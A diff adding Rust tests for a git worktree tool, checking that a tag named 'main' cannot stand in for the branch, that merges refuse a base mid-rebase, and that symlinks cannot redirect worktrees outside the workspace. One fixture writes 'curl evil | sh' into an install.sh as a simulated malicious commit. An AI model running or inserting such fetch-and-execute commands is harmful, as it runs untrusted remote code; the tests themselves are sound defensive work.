@@ -249,3 +249,76 @@ fn a_worktree_is_refused_outside_git_for_a_bad_base_and_a_taken_branch() {
     let error = worktrees::create(&workspace, "../up", &place(&workspace, "up"), None).unwrap_err();
     assert_eq!(error.code(), ErrorCode::InvalidRequest);
 }
+
+#[test]
+fn a_tag_named_as_the_base_branch_never_stands_in_for_it() {
+    let (_dir, workspace) = repository();
+    let root = workspace.root();
+    // A commit nobody reviewed, tagged `main` (a fetched tag can be).
+    git(root, &["checkout", "-q", "-b", "evil"]);
+    fs::write(root.join("install.sh"), "curl evil | sh\n").unwrap();
+    git(root, &["add", "."]);
+    git(root, &["commit", "-q", "-m", "Evil"]);
+    git(root, &["tag", "main"]);
+    git(root, &["checkout", "-q", "main"]);
+    git(root, &["branch", "-q", "-D", "evil"]);
+    for base in [Some("main"), None] {
+        let name = if base.is_some() { "named" } else { "default" };
+        let tree = worktrees::create(&workspace, name, &place(&workspace, name), base).unwrap();
+        assert_eq!(tree.base, "main");
+        assert_eq!(
+            tree.base_commit,
+            git(root, &["rev-parse", "refs/heads/main"]).trim(),
+            "the branch, not the tag"
+        );
+        assert!(!Path::new(&tree.path).join("install.sh").exists());
+    }
+}
+
+#[test]
+fn a_base_being_rebased_is_not_moved_underneath() {
+    let (_dir, workspace) = repository();
+    let root = workspace.root();
+    let tree = worktrees::create(&workspace, "r", &place(&workspace, "r"), None).unwrap();
+    let wt = Path::new(&tree.path);
+    fs::write(wt.join("new.txt"), "x\n").unwrap();
+    git(wt, &["add", "."]);
+    git(wt, &["commit", "-q", "-m", "New"]);
+    // main is mid-rebase onto `side`, stopped on a conflict.
+    git(root, &["checkout", "-q", "-b", "side"]);
+    fs::write(root.join("README.md"), "# Side\n").unwrap();
+    git(root, &["commit", "-q", "-am", "Side"]);
+    git(root, &["checkout", "-q", "main"]);
+    fs::write(root.join("README.md"), "# Main\n").unwrap();
+    git(root, &["commit", "-q", "-am", "Main"]);
+    let before = git(root, &["rev-parse", "refs/heads/main"]);
+    let rebase = Command::new("git")
+        .arg("-C")
+        .arg(root)
+        .args(["rebase", "side"])
+        .output()
+        .unwrap();
+    assert!(!rebase.status.success(), "the rebase stops on its conflict");
+    let error = worktrees::merge(&workspace, &tree, "r", false).unwrap_err();
+    assert!(error.to_string().contains("being rebased"), "{error}");
+    assert_eq!(git(root, &["rev-parse", "refs/heads/main"]), before);
+}
+
+#[test]
+fn a_worktree_never_lands_through_a_link_and_a_failed_one_leaves_no_branch() {
+    let (_dir, workspace) = repository();
+    let root = workspace.root();
+    let outside = tempfile::tempdir().unwrap();
+    std::os::unix::fs::symlink(outside.path(), root.join(".claude")).unwrap();
+    let error = worktrees::create(&workspace, "out", &place(&workspace, "out"), None).unwrap_err();
+    assert_eq!(error.code(), ErrorCode::OutsideWorkspace, "{error}");
+    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0, "nothing made outside");
+    assert!(!git(root, &["branch"]).contains("switchboard/out"));
+    fs::remove_file(root.join(".claude")).unwrap();
+
+    // A dangling link where the worktree would go: refused, no branch.
+    fs::create_dir_all(root.join(".claude/worktrees")).unwrap();
+    std::os::unix::fs::symlink("/nonexistent/x", place(&workspace, "dangling")).unwrap();
+    assert!(worktrees::create(&workspace, "dangling", &place(&workspace, "dangling"), None).is_err());
+    assert!(!git(root, &["branch"]).contains("switchboard/dangling"));
+}
